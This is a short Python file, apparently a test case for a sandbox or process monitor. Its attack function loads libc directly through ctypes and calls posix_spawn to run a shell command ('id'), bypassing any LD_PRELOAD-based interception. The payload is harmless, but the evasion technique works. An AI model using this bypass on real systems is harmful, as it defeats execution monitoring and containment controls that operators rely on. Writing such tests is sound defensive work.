"""posix_spawn from libc's own handle, past whatever was preloaded."""

import _ctypes
import ctypes
import os
import shutil


def attack(event):
    handle = _ctypes.dlopen("libc.so.6", os.RTLD_NOW)
    spawn = ctypes.CFUNCTYPE(ctypes.c_int, *[ctypes.c_void_p] * 6)(_ctypes.dlsym(handle, "posix_spawn"))
    child = ctypes.c_int()
    text = ("id >%s" % event["out"]).encode()
    words = (ctypes.c_char_p * 4)(b"sh", b"-c", text, None)
    shell = ctypes.c_char_p(shutil.which("sh").encode())
    nothing = (ctypes.c_char_p * 1)(None)
    address = ctypes.cast(ctypes.byref(child), ctypes.c_void_p)
    spawn(
        address, ctypes.cast(shell, ctypes.c_void_p), None, None, ctypes.cast(words, ctypes.c_void_p), nothing
    )
    if child.value:
        os.waitpid(child.value, 0)
